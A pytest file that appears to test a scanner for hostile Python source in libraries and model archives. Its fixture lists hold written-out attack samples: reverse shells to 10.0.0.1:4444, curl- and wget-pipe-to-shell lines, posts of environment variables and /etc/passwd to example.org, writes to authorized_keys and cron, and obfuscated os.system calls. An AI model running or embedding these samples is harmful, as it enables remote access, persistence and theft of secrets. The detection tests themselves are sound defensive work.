"""Python source: what runs when it is imported, what is hidden, and what stays quiet."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from making.zips import Member, archive
from scanning import ids, scanned

PACKED = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="
HIDDEN = [
    f"import base64\nexec(base64.b64decode('{PACKED}'))",
    f"import base64\ntext = '{PACKED}'\ncode = base64.b64decode(text)\nexec(compile(code, 'a', 'exec'))",
    f"from base64 import b64decode as d\nexec(d('{PACKED}').decode())",
    "import zlib\nexec(zlib.decompress(b'x' * 0 + b'0123456789012345678901234567890'))",
    "import marshal\nexec(marshal.loads(b'0123456789012345678901234567890'))",
    "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(1)', 'rot13'))",
    "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41, 112, 114, 105, 110, 116, 40, 49, 41]))",
    "exec(''.join(chr(c ^ 3) for c in [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]))",
    "exec(bytes.fromhex('7072696e742831297072696e74283129'))",
    "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'0123456789012345678901234567890'))",
    "import requests\nexec(requests.get('http://example.org').text)",
    "import urllib.request as u\neval(u.urlopen('http://example.org').read())",
    "from urllib.request import urlopen\ndef f():\n    exec(urlopen('http://example.org').read())",
    "exec(\"import os; os.system('id')\")",
    "eval(\"__import__('os').system('id')\")",
    "exec('''import subprocess\\nsubprocess.run(['id'])''')",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "getattr(__builtins__, 'ev' + 'al')('1')",
    "__builtins__.__dict__['ex' + 'ec']('1')",
    "import os\nvars(os)['sys' + 'tem']('id')",
    "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
    "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
    "import os\ngetattr(os, f\"{'sys'}{'tem'}\")('id')",
    "import os\ngetattr(os, chr(115) + 'ystem')('id')",
    "import os\ngetattr(os, 'sxstem'.replace('x', 'y'))('id')",
    "import importlib\nimportlib.import_module('subp' + 'rocess').run('id')",
    "import sys\nsys.modules['o' + 's'].system('id')",
    "import base64\ngetattr(__import__('os'), base64.b64decode('c3lzdGVt').decode())('id')",
]
SHELLS = [
    "import socket,os\ns=socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
    "import socket,pty,os\ndef f():\n    s = socket.create_connection('a')\n    os.dup2(s, 0)\n    pty.spawn('sh')",
    "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
    "import subprocess\nsubprocess.call(['/bin/sh', '-c', 'curl http://example.org/x | sh'])",
    "import os\nos.popen('nc -e /bin/sh 10.0.0.1 4444')",
    "from os import system\nsystem('wget -qO- http://example.org/x | bash')",
    "import os\nos.system('powershell -nop -w hidden -enc SQBFAFgA')",
    "import os\nos.system('echo aWQ= | base64 -d | sh')",
    "import subprocess as s\nrun = s.run\nrun('mkfifo /tmp/f; cat /tmp/f', shell=True)",
]
ELSEWHERE = [
    "open('/root/.bashrc', 'a').write('x')",
    "from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * root id')",
    "open('/home/a/.ssh/authorized_keys', mode='w')",
    "import os, requests\nrequests.post('http://example.org', data=dict(os.environ))",
    "import requests\nrequests.post('http://example.org', data=open('/etc/passwd').read())",
]
QUIET = [
    "import os\nprint(os.path.join('a', 'b'))",
    "import subprocess\nversion = subprocess.check_output(['git', 'describe'])",
    "import os\nos.system('make all')",
    "exec(open('version.py').read())",
    "import pickle, base64\ndef load(x):\n    return pickle.loads(base64.b64decode(x))",
    "import zlib\ndef f(x):\n    exec(zlib.decompress(x))",
    "import requests\ndef f():\n    return requests.get('http://example.org').json()",
    "eval('1 + 1')",
    "exec('from os import path')",
    "import os\nx = getattr(os, 'name')",
    "def system(x):\n    return x\nsystem('a')",
    "import socket\ns = socket.socket()\ns.connect(('a', 1))",
    "from os import *\nprint(getcwd())",
    "x: int = 3\ny = (z := 4)\nwith open('a') as f:\n    pass\n",
    "import os\nprint(os.environ['HOME'])",
    "text = 'curl http://example.org | sh'",
    "import subprocess as s\ndef f():\n    c = bytes.fromhex('6161616161616161')\ndef g():\n    c = 1\n    s.run(c)",
    "",
]


@pytest.mark.parametrize("code", HIDDEN)
def test_hidden_code_is_an_attack_anywhere(code):
    """Source that decodes, fetches or spells out what it runs is an attack, in a library too."""
    assert "python.hidden-code" in ids(scanned(code.encode(), "module.py"))


@pytest.mark.parametrize("code", SHELLS)
def test_shells_for_others_are_attacks_anywhere(code):
    """A shell through a socket, and commands that fetch and run, are attacks."""
    found = set(ids(scanned(code.encode(), "module.py")))
    assert found & {"python.reverse-shell", "python.shell-payload"}


@pytest.mark.parametrize("code", ELSEWHERE)
def test_secrets_sent_and_start_up_files_written_are_attacks(code):
    """Import-time code that writes where commands are looked for, or sends what is secret, is an attack."""
    assert scanned(code.encode(), "module.py").verdict == "attack"


@pytest.mark.parametrize("code", QUIET)
def test_ordinary_source_of_libraries_is_clean(code):
    """What libraries do every day is no finding outside a model archive."""
    assert scanned((code + "\n").encode(), "module.py").verdict == "clean"


def in_archive(code, name="handler.py"):
    """The verdict on source inside an archive."""
    return scanned(archive(Member(name, code.encode())), "model.mar")


AT_IMPORT = [
    "import os\nos.system('id')",
    "import os\nclass A:\n    x = os.popen('id').read()",
    "import os\ndef f():\n    os.system('id')\nf()",
    "import os\ndef f():\n    os.system('id')\ndef g():\n    f()\ng()",
    "import os\n@os.system\ndef f():\n    pass",
    "import os\nlist(map(os.system, ['id']))",
    "import atexit, os\natexit.register(os.system, 'id')",
    "from threading import Thread\nfrom os import system\nThread(target=system, args=('id',)).start()",
    "from os import *\nsystem('id')",
    "(lambda: __import__('os').system('id'))()",
    "import subprocess as s\nr = s.run\nr('id')",
    "import pty\npty.spawn('/bin/true')",
    "if True:\n    try:\n        import os\n        os.execv('/bin/true', ['x'])\n    except OSError:\n        pass",
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
]
REVIEWED = {
    "import os\ndef handle(x):\n    os.system('id')": "python.starts-program",
    "import subprocess\nsubprocess.check_call(['python', '-m', 'pip', 'install', 'x'])": "python.starts-program",
    "if __name__ == '__main__':\n    import os\n    os.system('id')": "python.starts-program",
    "def handle(x):\n    return eval(x)": "python.runs-text",
    "import requests\ndef handle(x):\n    return requests.get(x)": "python.uses-network",
    "import pickle\ndef initialize(c):\n    return pickle.load(open(c, 'rb'))": "python.loads-pickle",
    "import torch\ndef initialize(c):\n    return torch.load(c)": "python.loads-pickle",
    "import yaml\ndef f(x):\n    return yaml.load(x, Loader=yaml.Loader)": "python.loads-pickle",
    "import ctypes\nctypes.CDLL('libx.so')": "python.native-code",
}
HONEST_HANDLERS = [
    "import torch\nclass Handler:\n    def initialize(self, c):\n        self.model = torch.jit.load(c)",
    "import torch\ndef f(c):\n    return torch.load(c, weights_only=True)",
    "import yaml\ndef f(x):\n    return yaml.load(x, Loader=yaml.SafeLoader)",
    "import json, os\nfrom ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    pass",
    "import numpy as np\ndef handle(data, context):\n    return np.argmax(data)",
]


@pytest.mark.parametrize("code", AT_IMPORT)
def test_programs_started_by_import_are_attacks_in_archives(code):
    """A model archive whose source starts a program when it is imported is an attack."""
    assert "python.runs-at-import" in ids(in_archive(code))


@pytest.mark.parametrize(("code", "rule"), sorted(REVIEWED.items()))
def test_powers_of_handlers_are_for_review(code, rule):
    """What a handler may honestly do, but a person should see, is for review."""
    found = in_archive(code)
    assert (found.verdict, rule in ids(found)) == ("review", True)


@pytest.mark.parametrize("code", HONEST_HANDLERS)
def test_honest_handlers_are_clean(code):
    """Handlers that load weights safely and compute have no finding."""
    assert in_archive(code).verdict == "clean"


@pytest.mark.parametrize("name", ["lib-1.2.0-py3-none-any.whl", "lib-1.2.0.zip", "lib.egg"])
def test_source_of_packages_is_judged_as_a_library(name):
    """In a wheel or source distribution only attack patterns count."""
    code = b"import os\nos.system('make')\n"
    folder = name.removesuffix(".zip") if name.endswith(".zip") else "lib"
    assert scanned(archive(Member(f"{folder}/a.py", code)), name).verdict == "clean"
    assert scanned(archive(Member("lib/a.py", code)), "model-1.0.zip").verdict == "attack"


def test_setup_that_uses_the_network_is_for_review():
    """A setup.py that fetches something while it installs is for review; another module is not."""
    code = b"from urllib.request import urlopen\nurlopen('http://example.org')\n"
    assert scanned(code, "pkg/setup.py").verdict == "review"
    assert scanned(code, "pkg/other.py").verdict == "clean"


@pytest.mark.parametrize("cookie", ["punycode", "raw_unicode_escape", "rot13", "unicode_escape", "utf-7", "x-unknown"])
def test_encodings_that_hide_code_are_for_review(cookie):
    """Source declared in an encoding that shows another text to readers is at least for review."""
    found = scanned(f"# -*- coding: {cookie} -*-\nx = 1\n".encode(), "a.py")
    assert (found.verdict, ids(found)) == ("review", ["python.odd-encoding"])


@pytest.mark.parametrize("cookie", ["cp1252", "gbk", "iso-8859-15", "latin-1", "utf-8", "utf-8-unix"])
def test_common_encodings_are_clean(cookie):
    """Encodings that people write source in are no finding."""
    assert scanned(f"# coding: {cookie}\nx = 'a'\n".encode(), "a.py").verdict == "clean"


def test_code_behind_an_escaping_encoding_is_read():
    """What an escaping codec would turn into code is judged as that code."""
    code = b"# coding: unicode_escape\nx = 1 # \\u000aimport os\\u000aos.system('bash -i >& /dev/tcp/1.1.1.1/1 0>&1')\n"
    assert scanned(code, "a.py").verdict == "attack"


def test_letters_that_python_normalises_hide_nothing():
    """A name in full-width letters is the name that Python makes of it."""
    assert scanned("ｅxec(\"import os; os.system('id')\")".encode(), "a.py").verdict == "attack"


def test_source_for_another_python_is_low_or_unread():
    """Source that does not parse is low in a library, unread in a model archive, and its shell words still count."""
    assert scanned(b"print 'a'\nexec 'b'\n", "a.py").verdict == "clean"
    assert in_archive("print 'a'\n").verdict == "unread"
    assert scanned(b"print 'a'\nimport os\nos.system('bash -i >& /dev/tcp/1/1')\n", "a.py").verdict == "attack"


@pytest.mark.parametrize(
    "code", ["(" * 5000, "x = " + "-" * 20000 + "1", "a." * 20000 + "b", "[" * 150 + "]" * 150, "\0"]
)
def test_source_beyond_the_parser_has_a_verdict(code):
    """Nesting beyond the parser's bounds never stops a scan."""
    assert "file.reader-failed" not in ids(in_archive(code + "\nimport os\nos.system('id')\n"))


def test_large_source_is_searched_or_unread():
    """Data as source is clean when no word in it matters; else it was not judged."""
    data = b"x = [\n" + b"    1000000,\n" * 300_000 + b"]\n"
    assert scanned(data, "a.py").verdict == "clean"
    assert "file.unread" in ids(scanned(data + b"exec(x)\n", "a.py"))


def test_long_concatenations_are_folded():
    """A name spelled from hundreds of pieces is still read."""
    spelled = " + ".join(f"'{char}'" for char in "system")
    padding = " + ".join(["''"] * 300)
    code = f"import os\ngetattr(os, {padding} + {spelled})('id')"
    assert "python.hidden-code" in ids(scanned(code.encode(), "a.py"))


def test_evidence_names_the_line_and_the_call():
    """A finding says which call it is and where it stands."""
    found = scanned(b"\n\nimport os\nexec(\"os.system('id')\")\n", "a.py").findings[0]
    assert (found.line, "os.system" in found.evidence) == (4, True)


PIECES = st.sampled_from(
    [*HIDDEN, *SHELLS, *QUIET, *AT_IMPORT, "\n", "(", ")", "'", "\\", "if x:\n    ", "é", "\0", "lambda: "]
)


@settings(max_examples=60, deadline=None)
@given(st.lists(PIECES, max_size=6), st.integers(0, 400))
def test_any_source_has_a_verdict(pieces, cut):
    """However source is cut and put together, a reader never fails."""
    code = "".join(pieces)
    found = in_archive(code[: len(code) - cut % (len(code) + 1)])
    assert "file.reader-failed" not in ids(found)
